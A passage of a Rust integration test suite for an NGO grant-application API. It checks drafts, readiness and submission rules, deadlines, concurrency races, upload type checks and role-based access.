//! Calls and applications over HTTP on both backends: the NGO's draft, readiness and
//! submission by the same rules, the deadline by the server clock, frozen submissions and
//! revisions, documents judged by their bytes, role scoping, screening and emails, and
//! races that must not break any of it.

use crate::common;

use std::io::Write;

use chrono::{Duration, Utc};
use common::{Reply, TestApp};
use reqwest::Method;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

/// A fund, an open call, an NGO organisation and tokens for its member and an admin.
struct World {
    admin: String,
    fund_id: String,
    fund_code: String,
    call_id: String,
    org_id: String,
    ngo: String,
}

fn call_body() -> Value {
    json!({
        "title": "Emergency grants 2026",
        "description": "Emergency grants up to USD 20,000 for eight months.",
        "opens_at": (Utc::now() - Duration::hours(1)).to_rfc3339(),
        "closes_at": (Utc::now() + Duration::days(30)).to_rfc3339(),
        "max_amount": "20000.00",
        "currency": "USD",
        "max_duration_months": 8,
        "eligible_countries": ["NG", "GH", "TH"],
        "themes": ["protection.shelter", "protection.legal-aid"],
        "required_documents": ["proposal", "budget"],
        "rubric": [
            {"key": "relevance", "title": "Relevance to victims' needs", "weight": 0.4, "max_score": 10},
            {"key": "capacity", "title": "Organisational capacity", "weight": "0.6", "max_score": 10}
        ]
    })
}

async fn create_org(app: &TestApp, admin: &str, name: &str) -> String {
    let r = app
        .post_as(
            admin,
            "/api/v1/organisations",
            json!({"name": name, "kind": "ngo", "country": "NG", "verified": true}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    r.body["id"].as_str().expect("id").to_string()
}

async fn open_call(app: &TestApp, admin: &str, fund_id: &str, body: Value) -> String {
    let r = app
        .post_as(admin, &format!("/api/v1/funds/{fund_id}/calls"), body)
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let id = r.body["id"].as_str().expect("id").to_string();
    let r = app
        .post_as(admin, &format!("/api/v1/calls/{id}/open"), json!({}))
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    id
}

/// `common::world::World` with `call_body()` opened, read into plain fields (the tests
/// below vary the call with struct update: `World { call_id, ..w }`).
async fn world(app: &TestApp) -> World {
    let w = common::world::World::new(app)
        .fund()
        .open_call_with(call_body())
        .ngo()
        .await;
    World {
        admin: w.admin.clone(),
        fund_id: w.fund_id().to_string(),
        fund_code: w.fund_code().to_string(),
        call_id: w.call_id().to_string(),
        org_id: w.org_id().to_string(),
        ngo: w.ngo_token().to_string(),
    }
}

fn complete_patch() -> Value {
    json!({
        "title": "Safe shelter for survivors in Lagos",
        "summary": "Shelter, medical and legal aid for 40 survivors of trafficking.",
        "requested_amount": "15000.00",
        "duration_months": 8,
        "countries": ["NG"],
        "themes": ["protection.shelter", "protection.legal-aid"],
        "planned_beneficiaries": [
            {"sex": "female", "age_group": "child", "exploitation": "sexual", "count": 15},
            {"sex": "female", "age_group": "adult", "exploitation": "forced-labour", "count": 25}
        ],
        "budget": [
            {"category": "shelter", "description": "rent and food", "amount": "9000.00"},
            {"category": "legal aid", "description": "two lawyers", "amount": "6000.00"}
        ]
    })
}

async fn create_draft(app: &TestApp, w: &World) -> String {
    let r = app
        .post_as(
            &w.ngo,
            &format!("/api/v1/calls/{}/applications", w.call_id),
            json!({}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    r.body["id"].as_str().expect("id").to_string()
}

fn pdf(text: &str) -> Vec<u8> {
    format!("%PDF-1.4\n% {text}\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n").into_bytes()
}

async fn upload_as(
    app: &TestApp,
    token: &str,
    app_id: &str,
    kind: Option<&str>,
    name: &str,
    bytes: Vec<u8>,
) -> Reply {
    let mut form = reqwest::multipart::Form::new();
    if let Some(kind) = kind {
        form = form.text("kind", kind.to_string());
    }
    let part = reqwest::multipart::Part::bytes(bytes)
        .file_name(name.to_string())
        .mime_str("application/octet-stream")
        .expect("mime");
    form = form.part("file", part);
    let response = app
        .client
        .post(app.url(&format!("/api/v1/applications/{app_id}/documents")))
        .bearer_auth(token)
        .multipart(form)
        .send()
        .await
        .expect("sent");
    Reply::from(response).await
}

async fn upload(
    app: &TestApp,
    w: &World,
    app_id: &str,
    kind: &str,
    name: &str,
    bytes: Vec<u8>,
) -> Reply {
    upload_as(app, &w.ngo, app_id, Some(kind), name, bytes).await
}

/// A draft with every field filled in and both required documents.
async fn complete_draft(app: &TestApp, w: &World) -> String {
    let id = create_draft(app, w).await;
    let r = app
        .patch_as(
            &w.ngo,
            &format!("/api/v1/applications/{id}"),
            complete_patch(),
            None,
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    for kind in ["proposal", "budget"] {
        let r = upload(app, w, &id, kind, &format!("{kind}.pdf"), pdf(kind)).await;
        assert_eq!(r.status, 201, "{}", r.text);
    }
    id
}

async fn submit(app: &TestApp, token: &str, id: &str) -> Reply {
    app.post_as(
        token,
        &format!("/api/v1/applications/{id}/submit"),
        json!({}),
    )
    .await
}

fn fields(reply: &Reply) -> Vec<String> {
    let mut f: Vec<String> = reply.body["errors"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|e| e["field"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    f.sort();
    f
}

fn blocker_fields(reply: &Reply) -> Vec<String> {
    let mut f: Vec<String> = reply.body["blockers"]
        .as_array()
        .expect("blockers")
        .iter()
        .map(|b| b["field"].as_str().expect("field").to_string())
        .collect();
    f.sort();
    f
}

/// Outbox messages as (recipient, template, context).
fn outbox(app: &TestApp) -> Vec<(String, String, Value)> {
    use diesel::prelude::*;
    use trustfund::db::schema::outbox;
    let mut conn = app.pool.get().expect("connection");
    outbox::table
        .order(outbox::id.asc())
        .select((outbox::to_address, outbox::template, outbox::context))
        .load::<(String, String, String)>(&mut *conn)
        .expect("outbox")
        .into_iter()
        .map(|(to, t, c)| (to, t, serde_json::from_str(&c).expect("json context")))
        .collect()
}

/// Every regular file under `dir`, recursively.
fn files_under(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(files_under(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}

fn sha256_hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

fn office_zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    {
        let mut w = zip::ZipWriter::new(&mut out);
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        for (name, content) in entries {
            w.start_file(*name, opts).expect("entry");
            w.write_all(content).expect("write");
        }
        w.finish().expect("finish");
    }
    out.into_inner()
}

both_backends!(
    an_ngo_drafts_completes_and_submits_an_application,
    |app: TestApp| async move {
        let w = world(&app).await;
        // a new draft: empty, with an ETag
        let r = app
            .post_as(
                &w.ngo,
                &format!("/api/v1/calls/{}/applications", w.call_id),
                json!({"title": "Shelter"}),
            )
            .await;
        assert_eq!(r.status, 201, "{}", r.text);
        assert_eq!(r.body["status"], "draft");
        assert_eq!(r.body["title"], "Shelter");
        assert_eq!(r.body["organisation_id"], w.org_id.as_str());
        assert_eq!(r.body["currency"], "USD");
        assert_eq!(r.body["revision"], 1);
        let id = r.body["id"].as_str().unwrap().to_string();
        let path = format!("/api/v1/applications/{id}");
        assert_eq!(r.header("location").as_deref(), Some(path.as_str()));
        let etag = r.header("etag").expect("ETag");

        // readiness names everything missing
        let ready = app.get_as(&w.ngo, &format!("{path}/readiness")).await;
        assert_eq!(ready.status, 200, "{}", ready.text);
        assert_eq!(ready.body["ready"], false);
        assert_eq!(
            blocker_fields(&ready),
            vec![
                "budget",
                "countries",
                "documents.budget",
                "documents.proposal",
                "duration_months",
                "requested_amount",
                "summary",
                "themes"
            ]
        );

        // complete it
        let r = app
            .patch_as(&w.ngo, &path, complete_patch(), Some(&etag))
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["version"], 2);
        assert_eq!(r.body["requested_amount"], "15000.00");
        assert_eq!(r.body["budget_total"], "15000.00");
        assert_eq!(r.body["budget"][1]["amount"], "6000.00");
        assert_eq!(r.body["planned_beneficiaries"][0]["count"], 15);
        let proposal = pdf("proposal");
        let r = upload(
            &app,
            &w,
            &id,
            "proposal",
            "Proposal 2026.pdf",
            proposal.clone(),
        )
        .await;
        assert_eq!(r.status, 201, "{}", r.text);
        assert_eq!(r.body["kind"], "proposal");
        assert_eq!(r.body["content_type"], "application/pdf");
        assert_eq!(r.body["sha256"], sha256_hex(&proposal));
        assert_eq!(r.body["size_bytes"], proposal.len());
        assert_eq!(r.body["file_name"], "Proposal 2026.pdf");
        let r = upload(
            &app,
            &w,
            &id,
            "budget",
            "budget.csv",
            b"category,amount\nshelter,9000.00\n".to_vec(),
        )
        .await;
        assert_eq!(r.status, 201, "{}", r.text);
        assert_eq!(r.body["content_type"], "text/csv; charset=utf-8");

        let ready = app.get_as(&w.ngo, &format!("{path}/readiness")).await;
        assert_eq!(ready.body["ready"], true, "{}", ready.text);
        assert!(ready.body["blockers"].as_array().unwrap().is_empty());

        // submit
        let r = submit(&app, &w.ngo, &id).await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["status"], "submitted");
        let year = Utc::now().format("%Y").to_string();
        let reference = format!("{}-{year}-00001", w.fund_code);
        assert_eq!(r.body["reference"], reference.as_str());
        assert!(r.body["submitted_at"].is_string());
        assert_eq!(r.body["documents"].as_array().unwrap().len(), 2);

        // acknowledged by email with the reference
        let mail = outbox(&app);
        assert_eq!(mail.len(), 1, "{mail:?}");
        assert_eq!(mail[0].1, "application_submitted");
        assert!(mail[0].0.starts_with("ngo-"));
        assert_eq!(mail[0].2["reference"], reference.as_str());
        assert_eq!(mail[0].2["call_title"], "Emergency grants 2026");

        // the revision is kept, and every step was audited
        let revisions = app.get_as(&w.ngo, &format!("{path}/revisions")).await;
        assert_eq!(
            revisions.body["items"].as_array().unwrap().len(),
            1,
            "{}",
            revisions.text
        );
        let trail = app
            .get_as(
                &w.admin,
                &format!("/api/v1/audit-events?entity=application&entity_id={id}"),
            )
            .await;
        let actions: Vec<&str> = trail.body["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["action"].as_str().unwrap())
            .collect();
        assert_eq!(actions, vec!["create", "update", "submit"]);
        let uploads = app
            .get_as(&w.admin, "/api/v1/audit-events?entity=application_document")
            .await;
        assert_eq!(uploads.body["items"].as_array().unwrap().len(), 2);

        // a second application of the fund gets the next number
        let second = complete_draft(&app, &w).await;
        let r = submit(&app, &w.ngo, &second).await;
        assert_eq!(
            r.body["reference"],
            format!("{}-{year}-00002", w.fund_code).as_str()
        );
    }
);

both_backends!(
    readiness_and_submit_name_the_same_problems,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = create_draft(&app, &w).await;
        let path = format!("/api/v1/applications/{id}");
        let mut body = complete_patch();
        body["requested_amount"] = json!("25000.00"); // above the call's maximum, and the budget no longer sums
        body["duration_months"] = json!(12); // longer than 8 months
        body["countries"] = json!(["NG", "FR"]); // FR is not eligible
        // a survivor's name, age and phone number have no place in what trustees read
        body["summary"] = json!(
            "Shelter for survivors such as Amina, aged 15, who reached us at +234 803 555 0101."
        );
        let r = app.patch_as(&w.ngo, &path, body, None).await;
        assert_eq!(r.status, 200, "a draft may be inconsistent: {}", r.text);
        let r = upload(&app, &w, &id, "proposal", "p.pdf", pdf("p")).await;
        assert_eq!(r.status, 201);

        let expected = vec![
            "budget",
            "countries[1]",
            "documents.budget",
            "duration_months",
            "requested_amount",
            "summary",
            "summary",
        ];
        let ready = app.get_as(&w.ngo, &format!("{path}/readiness")).await;
        assert_eq!(blocker_fields(&ready), expected);
        assert!(
            ready.body["blockers"]
                .as_array()
                .unwrap()
                .iter()
                .all(|b| b["code"] == "validation_failed")
        );
        let r = submit(&app, &w.ngo, &id).await;
        r.assert_problem(422, "validation_failed");
        assert_eq!(
            fields(&r),
            expected,
            "submit enforces exactly what readiness lists"
        );

        // a failed submission changed nothing
        let read = app.get_as(&w.ngo, &path).await;
        assert_eq!(read.body["status"], "draft");
        assert_eq!(read.body["version"], 2);
        assert!(read.body["reference"].is_null());
        assert_eq!(app.count("application_revisions"), 0);
        assert!(outbox(&app).is_empty());

        // an unknown theme, a number for money, a duplicated cell: refused at once, by name
        let r = app
            .patch_as(
                &w.ngo,
                &path,
                json!({"themes": ["protection.shelter", "magic"]}),
                None,
            )
            .await;
        assert_eq!(
            r.assert_problem(422, "validation_failed"),
            vec!["themes[1]"]
        );
        let r = app
            .patch_as(
                &w.ngo,
                &path,
                json!({"budget": [{"category": "x", "amount": 100}]}),
                None,
            )
            .await;
        assert_eq!(
            r.assert_problem(422, "validation_failed"),
            vec!["budget[0].amount"]
        );
        let r = app
            .patch_as(
                &w.ngo,
                &path,
                json!({"budget": [{"category": "x", "amount": "1.005"}]}),
                None,
            )
            .await;
        assert_eq!(
            r.assert_problem(422, "validation_failed"),
            vec!["budget[0].amount"]
        );
        let cell =
            json!({"sex": "female", "age_group": "child", "exploitation": "sexual", "count": 3});
        let r = app
            .patch_as(
                &w.ngo,
                &path,
                json!({"planned_beneficiaries": [cell.clone(), cell]}),
                None,
            )
            .await;
        assert_eq!(
            r.assert_problem(422, "validation_failed"),
            vec!["planned_beneficiaries[1]"]
        );
        let r = app.patch_as(&w.ngo, &path, json!({"planned_beneficiaries": [{"sex": "female", "age_group": "teen", "exploitation": "sexual", "count": 3}]}), None).await;
        assert_eq!(
            r.assert_problem(422, "validation_failed"),
            vec!["planned_beneficiaries[0].age_group"]
        );
        let r = app
            .patch_as(
                &w.ngo,
                &path,
                json!({"requested_amount": "100.00", "currency": "EUR"}),
                None,
            )
            .await;
        assert_eq!(r.assert_problem(422, "validation_failed"), vec!["currency"]);
        assert_eq!(
            app.get_as(&w.ngo, &path).await.body["version"],
            2,
            "refused patches changed nothing"
        );

        // fix everything: both agree it is ready, and it submits
        let r = app.patch_as(&w.ngo, &path, complete_patch(), None).await;
        assert_eq!(r.status, 200);
        upload(&app, &w, &id, "budget", "b.pdf", pdf("b")).await;
        assert_eq!(
            app.get_as(&w.ngo, &format!("{path}/readiness")).await.body["ready"],
            true
        );
        assert_eq!(submit(&app, &w.ngo, &id).await.status, 200);
    }
);

both_backends!(
    an_unverified_organisation_prepares_but_submits_only_once_verified,
    |app: TestApp| async move {
        let w = world(&app).await;
        let org_path = format!("/api/v1/organisations/{}", w.org_id);
        let r = app
            .patch_as(&w.admin, &org_path, json!({"verified": false}), None)
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        // the secretariat's queue lists it; verified organisations are not in it
        let queue = app
            .get_as(&w.admin, "/api/v1/organisations?verified=false")
            .await;
        let ids: Vec<&str> = queue.body["items"]
            .as_array()
            .expect("items")
            .iter()
            .filter_map(|o| o["id"].as_str())
            .collect();
        assert_eq!(ids, vec![w.org_id.as_str()]);

        // a draft can be prepared in full
        let id = complete_draft(&app, &w).await;
        let ready = app
            .get_as(&w.ngo, &format!("/api/v1/applications/{id}/readiness"))
            .await;
        assert_eq!(ready.body["ready"], false);
        assert_eq!(blocker_fields(&ready), vec!["organisation"]);
        // submitting is refused by the same rule, and changes nothing
        let before = app.count("audit_events");
        let refused = submit(&app, &w.ngo, &id).await;
        assert_eq!(
            refused.assert_problem(409, "invalid_state"),
            vec!["organisation"]
        );
        let after = app
            .get_as(&w.ngo, &format!("/api/v1/applications/{id}"))
            .await;
        assert_eq!(after.body["status"], "draft");
        assert_eq!(app.count("audit_events"), before);
        assert_eq!(
            app.count("outbox WHERE template = 'application_submitted'"),
            0
        );

        let r = app
            .patch_as(&w.admin, &org_path, json!({"verified": true}), None)
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        let submitted = submit(&app, &w.ngo, &id).await;
        assert_eq!(submitted.status, 200, "{}", submitted.text);
        assert_eq!(submitted.body["status"], "submitted");
    }
);

both_backends!(
    the_server_clock_closes_the_call,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = complete_draft(&app, &w).await;
        let call_path = format!("/api/v1/calls/{}", w.call_id);
        // the deadline moves into the past: the call is still "open" but the clock says no
        let past = (Utc::now() - Duration::minutes(1)).to_rfc3339();
        let r = app
            .patch_as(&w.admin, &call_path, json!({"closes_at": past}), None)
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["status"], "open");
        assert_eq!(r.body["accepting_submissions"], false);
        let ready = app
            .get_as(&w.ngo, &format!("/api/v1/applications/{id}/readiness"))
            .await;
        assert_eq!(blocker_fields(&ready), vec!["call"]);
        assert_eq!(ready.body["blockers"][0]["code"], "invalid_state");
        let r = submit(&app, &w.ngo, &id).await;
        assert_eq!(r.assert_problem(409, "invalid_state"), vec!["call"]);
        assert!(
            r.body["detail"].as_str().unwrap().contains("deadline"),
            "{}",
            r.text
        );
        // no new drafts either
        app.post_as(
            &w.ngo,
            &format!("/api/v1/calls/{}/applications", w.call_id),
            json!({}),
        )
        .await
        .assert_problem(409, "invalid_state");

        // a call closed by the secretariat takes nothing, whatever its deadline
        let other = open_call(&app, &w.admin, &w.fund_id, call_body()).await;
        let w2 = World {
            call_id: other.clone(),
            ..w
        };
        let id2 = complete_draft(&app, &w2).await;
        let r = app
            .post_as(
                &w2.admin,
                &format!("/api/v1/calls/{other}/close"),
                json!({}),
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["status"], "closed");
        let r = submit(&app, &w2.ngo, &id2).await;
        assert_eq!(r.assert_problem(409, "invalid_state"), vec!["call"]);
        app.post_as(
            &w2.ngo,
            &format!("/api/v1/calls/{other}/applications"),
            json!({}),
        )
        .await
        .assert_problem(409, "invalid_state");
        assert_eq!(app.count("application_revisions"), 0);

        // a call not yet open for submissions: drafts yes, submissions no
        let mut future = call_body();
        future["opens_at"] = json!((Utc::now() + Duration::days(1)).to_rfc3339());
        let later = open_call(&app, &w2.admin, &w2.fund_id, future).await;
        let w3 = World {
            call_id: later,
            ..w2
        };
        let id3 = complete_draft(&app, &w3).await;
        let r = submit(&app, &w3.ngo, &id3).await;
        assert_eq!(r.assert_problem(409, "invalid_state"), vec!["call"]);
    }
);

both_backends!(
    a_submitted_application_is_frozen,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = complete_draft(&app, &w).await;
        let path = format!("/api/v1/applications/{id}");
        let submitted = submit(&app, &w.ngo, &id).await;
        assert_eq!(submitted.status, 200);
        let doc_id = submitted.body["documents"][0]["id"]
            .as_str()
            .unwrap()
            .to_string();

        app.patch_as(&w.ngo, &path, json!({"title": "Changed"}), None)
            .await
            .assert_problem(409, "invalid_state");
        upload(&app, &w, &id, "annex", "a.pdf", pdf("a"))
            .await
            .assert_problem(409, "invalid_state");
        // a large upload refused before its body is read still gets its answer
        let mut large = pdf("large");
        large.resize(3 << 20, b'x');
        upload(&app, &w, &id, "annex", "large.pdf", large)
            .await
            .assert_problem(409, "invalid_state");
        app.request_as(
            &w.ngo,
            Method::DELETE,
            &format!("{path}/documents/{doc_id}"),
            None,
            &[],
        )
        .await
        .assert_problem(409, "invalid_state");
        assert_eq!(
            submit(&app, &w.ngo, &id)
                .await
                .assert_problem(409, "invalid_state"),
            vec!["status"]
        );

        let read = app.get_as(&w.ngo, &path).await;
        assert_eq!(read.body["title"], "Safe shelter for survivors in Lagos");
        assert_eq!(read.body["documents"].as_array().unwrap().len(), 2);
        assert_eq!(read.body["version"], submitted.body["version"]);
        assert_eq!(app.count("application_documents"), 2);
    }
);

both_backends!(
    stale_if_match_is_refused_and_racing_edits_let_one_through,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = create_draft(&app, &w).await;
        let path = format!("/api/v1/applications/{id}");
        let etag = app
            .get_as(&w.ngo, &path)
            .await
            .header("etag")
            .expect("ETag");
        assert_eq!(etag, "\"1\"");
        let attempts = (0..8).map(|i| {
            let (app, path, etag, token) = (&app, path.clone(), etag.clone(), w.ngo.clone());
            async move {
                app.patch_as(
                    &token,
                    &path,
                    json!({"title": format!("Edit {i}")}),
                    Some(&etag),
                )
                .await
                .status
                .as_u16()
            }
        });
        let statuses = futures_util::future::join_all(attempts).await;
        assert_eq!(
            statuses.iter().filter(|s| **s == 200).count(),
            1,
            "{statuses:?}"
        );
        assert_eq!(
            statuses.iter().filter(|s| **s == 412).count(),
            7,
            "{statuses:?}"
        );
        assert_eq!(app.get_as(&w.ngo, &path).await.body["version"], 2);
        // the stale tag stays stale for every change
        let stale = [("if-match", etag.as_str())];
        app.request_as(
            &w.ngo,
            Method::POST,
            &format!("{path}/submit"),
            Some(json!({})),
            &stale,
        )
        .await
        .assert_problem(412, "precondition_failed");
        app.request_as(
            &w.ngo,
            Method::POST,
            &format!("{path}/withdraw"),
            Some(json!({})),
            &stale,
        )
        .await
        .assert_problem(412, "precondition_failed");
        app.patch_as(
            &w.admin,
            &format!("/api/v1/calls/{}", w.call_id),
            json!({"title": "x"}),
            Some("\"99\""),
        )
        .await
        .assert_problem(412, "precondition_failed");
        assert_eq!(app.get_as(&w.ngo, &path).await.body["status"], "draft");
    }
);

both_backends!(racing_submissions_submit_once, |app: TestApp| async move {
    let w = world(&app).await;
    let id = complete_draft(&app, &w).await;
    let attempts = (0..8).map(|_| {
        let (app, id, token) = (&app, id.clone(), w.ngo.clone());
        async move { submit(app, &token, &id).await.status.as_u16() }
    });
    let statuses = futures_util::future::join_all(attempts).await;
    assert_eq!(
        statuses.iter().filter(|s| **s == 200).count(),
        1,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|s| **s == 409).count(),
        7,
        "{statuses:?}"
    );
    assert_eq!(app.count("application_revisions"), 1);
    assert_eq!(outbox(&app).len(), 1);
    let read = app
        .get_as(&w.ngo, &format!("/api/v1/applications/{id}"))
        .await;
    assert!(read.body["reference"].as_str().unwrap().ends_with("-00001"));
});

both_backends!(
    an_upload_racing_a_submission_never_lands_in_a_frozen_revision,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = complete_draft(&app, &w).await;
        let uploads = (0..4).map(|i| {
            let (app, w, id) = (&app, &w, id.clone());
            async move {
                upload(
                    app,
                    w,
                    &id,
                    "annex",
                    &format!("annex{i}.pdf"),
                    pdf(&format!("annex {i}")),
                )
                .await
                .status
                .as_u16()
            }
        });
        let (statuses, submitted) = futures_util::future::join(
            futures_util::future::join_all(uploads),
            submit(&app, &w.ngo, &id),
        )
        .await;
        assert_eq!(submitted.status, 200, "{}", submitted.text);
        assert!(
            statuses.iter().all(|s| *s == 201 || *s == 409),
            "{statuses:?}"
        );
        let accepted = statuses.iter().filter(|s| **s == 201).count();
        // whatever was accepted is part of the submitted revision; nothing arrived after it
        let snapshot = app
            .get_as(&w.ngo, &format!("/api/v1/applications/{id}/revisions/1"))
            .await;
        let frozen = snapshot.body["application"]["documents"]
            .as_array()
            .unwrap()
            .len();
        let current = app
            .get_as(&w.ngo, &format!("/api/v1/applications/{id}"))
            .await;
        assert_eq!(frozen, 2 + accepted, "{}", snapshot.text);
        assert_eq!(current.body["documents"].as_array().unwrap().len(), frozen);
        assert_eq!(app.count("application_documents") as usize, frozen);
        assert_eq!(
            files_under(&app.data_dir.join("documents")).len(),
            frozen,
            "no file without its row"
        );
    }
);

fn one_store_at_a_time(s: &mut trustfund::config::Settings) {
    s.documents.concurrent_stores = 1;
}

both_backends_with!(
    uploads_take_turns_at_the_disk_and_a_refused_one_gives_its_turn_back,
    one_store_at_a_time,
    |app: TestApp| async move {
        // With one turn, a turn kept by a refused upload or an accepted one would leave
        // every later upload waiting for ever (the test would hang).
        let w = world(&app).await;
        let id = complete_draft(&app, &w).await;
        let uploads = (0..6).map(|i| {
            let (app, w, id) = (&app, &w, id.clone());
            async move {
                let bytes = if i % 3 == 0 {
                    b"MZ\x90\x00 not a document".to_vec()
                } else {
                    pdf(&format!("annex {i}"))
                };
                upload(app, w, &id, "annex", &format!("annex{i}.pdf"), bytes)
                    .await
                    .status
                    .as_u16()
            }
        });
        let statuses = futures_util::future::join_all(uploads).await;
        assert_eq!(statuses, [415, 201, 201, 415, 201, 201]);
        let late = upload(&app, &w, &id, "annex", "late.pdf", pdf("late")).await;
        assert_eq!(late.status, 201, "{}", late.text);
        let submitted = submit(&app, &w.ngo, &id).await;
        assert_eq!(submitted.status, 200, "{}", submitted.text);
        let current = app
            .get_as(&w.ngo, &format!("/api/v1/applications/{id}"))
            .await;
        // the two documents of the complete draft, four annexes and the late one
        assert_eq!(current.body["documents"].as_array().unwrap().len(), 7);
        assert_eq!(files_under(&app.data_dir.join("documents")).len(), 7);
    }
);

both_backends!(
    organisations_see_and_change_only_their_own_applications,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = complete_draft(&app, &w).await;
        let path = format!("/api/v1/applications/{id}");
        let doc = app.get_as(&w.ngo, &path).await.body["documents"][0]["id"]
            .as_str()
            .unwrap()
            .to_string();
        let other_org = create_org(&app, &w.admin, "Another NGO").await;
        let stranger = app.user_token("ngo", Some(&other_org));

        // another organisation's member: every door answers 404
        app.get_as(&stranger, &path)
            .await
            .assert_problem(404, "not_found");
        app.get_as(&stranger, &format!("{path}/readiness"))
            .await
            .assert_problem(404, "not_found");
        app.get_as(&stranger, &format!("{path}/revisions"))
            .await
            .assert_problem(404, "not_found");
        app.get_as(&stranger, &format!("{path}/documents"))
            .await
            .assert_problem(404, "not_found");
        app.get_as(&stranger, &format!("{path}/documents/{doc}"))
            .await
            .assert_problem(404, "not_found");
        app.patch_as(&stranger, &path, json!({"title": "Mine now"}), None)
            .await
            .assert_problem(404, "not_found");
        upload_as(&app, &stranger, &id, Some("annex"), "x.pdf", pdf("x"))
            .await
            .assert_problem(404, "not_found");
        app.request_as(
            &stranger,
            Method::DELETE,
            &format!("{path}/documents/{doc}"),
            None,
            &[],
        )
        .await
        .assert_problem(404, "not_found");
        submit(&app, &stranger, &id)
            .await
            .assert_problem(404, "not_found");
        app.post_as(&stranger, &format!("{path}/withdraw"), json!({}))
            .await
            .assert_problem(404, "not_found");
        let list = app.get_as(&stranger, "/api/v1/applications").await;
        assert_eq!(list.status, 200);
        assert!(list.body["items"].as_array().unwrap().is_empty());
        let own = app.get_as(&w.ngo, "/api/v1/applications").await;
        assert_eq!(own.body["items"].as_array().unwrap().len(), 1);

        // trustees of the fund see submitted applications only; of another fund, none
        let trustee = app.user_token_with_funds("trustee", None, &[&w.fund_id]);
        app.get_as(&trustee, &path)
            .await
            .assert_problem(404, "not_found");
        assert!(
            app.get_as(&trustee, "/api/v1/applications").await.body["items"]
                .as_array()
                .unwrap()
                .is_empty()
        );
        assert_eq!(submit(&app, &w.ngo, &id).await.status, 200);
        assert_eq!(app.get_as(&trustee, &path).await.status, 200);
        assert_eq!(
            app.get_as(&trustee, &format!("{path}/documents/{doc}"))
                .await
                .status,
            200
        );
        assert_eq!(
            app.get_as(&trustee, "/api/v1/applications").await.body["items"]
                .as_array()
                .unwrap()
                .len(),
            1
        );
        let other_trustee = app.user_token_with_funds("trustee", None, &[]);
        app.get_as(&other_trustee, &path)
            .await
            .assert_problem(404, "not_found");
        // reviewers see nothing until assigned; finance and donors may not read applications
        app.get_as(&app.user_token("reviewer", None), &path)
            .await
            .assert_problem(404, "not_found");
        app.get_as(&app.user_token("finance", None), "/api/v1/applications")
            .await
            .assert_problem(403, "forbidden");
        app.get_as(&app.user_token("donor", Some(&other_org)), &path)
            .await
            .assert_problem(403, "forbidden");
        // the secretariat reads everything; nobody without a token
        assert_eq!(app.get_as(&w.admin, &path).await.status, 200);
        app.get(&path).await.assert_problem(401, "unauthorized");
        app.get(&format!("{path}/documents/{doc}"))
            .await
            .assert_problem(401, "unauthorized");
    }
);

both_backends!(
    fields_only_the_secretariat_sets_are_refused_to_ngos,
    |app: TestApp| async move {
        let w = world(&app).await;
        let id = create_draft(&app, &w).await;
        let path = format!("/api/v1/applications/{id}");
        for (field, value) in [
            ("status", json!("under_review")),
            ("version", json!(7)),
            ("revision", json!(3)),
            ("reference", json!("X-1")),
            ("scores", json!({"relevance": 10})),
            ("decision", json!("approved")),
            ("screening", json!({"eligible": true})),
            ("organisation_id", json!(uuid::Uuid::new_v4().to_string())),
            ("submitted_at", json!(Utc::now().to_rfc3339())),
        ] {
            let r = app
                .patch_as(&w.ngo, &path, json!({"title": "ok", field: value}), None)
                .await;
            assert_eq!(
                r.assert_problem(422, "validation_failed"),
                vec![field],
                "{field}"
            );
            let r = app
                .post_as(
                    &w.ngo,
                    &format!("/api/v1/calls/{}/applications", w.call_id),
                    json!({field: value}),
                )
                .await;
            assert_eq!(
                r.assert_problem(422, "validation_failed"),
                vec![field],
                "{field} at creation"
            );
        }
        // victims are counted, never named
        let r = app.patch_as(&w.ngo, &path, json!({"planned_beneficiaries": [{"sex": "female", "age_group": "adult", "exploitation": "sexual", "count": 1, "name": "A. B."}]}), None).await;
        assert_eq!(
            r.assert_problem(422, "validation_failed"),
            vec!["planned_beneficiaries[0].name"]
        );
        let read = app.get_as(&w.ngo, &path).await;
        assert_eq!(read.body["status"], "draft");
        assert_eq!(read.body["version"], 1);
        assert_eq!(read.body["title"], "");
        assert_eq!(app.count("applications"), 1);

        // and the secretariat's own operations are not the NGO's
        let screening = app
            .post_as(
                &w.ngo,
                &format!("{path}/screening"),
                json!({"eligible": true, "notes": ""}),
            )
            .await;
        screening.assert_problem(403, "forbidden");
        app.post_as(
            &w.ngo,
            &format!("{path}/return-for-revision"),
            json!({"reason": "x"}),
        )
        .await
        .assert_problem(403, "forbidden");
        app.post_as(
            &w.ngo,
            &format!("/api/v1/funds/{}/calls", w.fund_id),
            call_body(),
        )
        .await
        .assert_problem(403, "forbidden");
        app.post_as(
            &w.ngo,
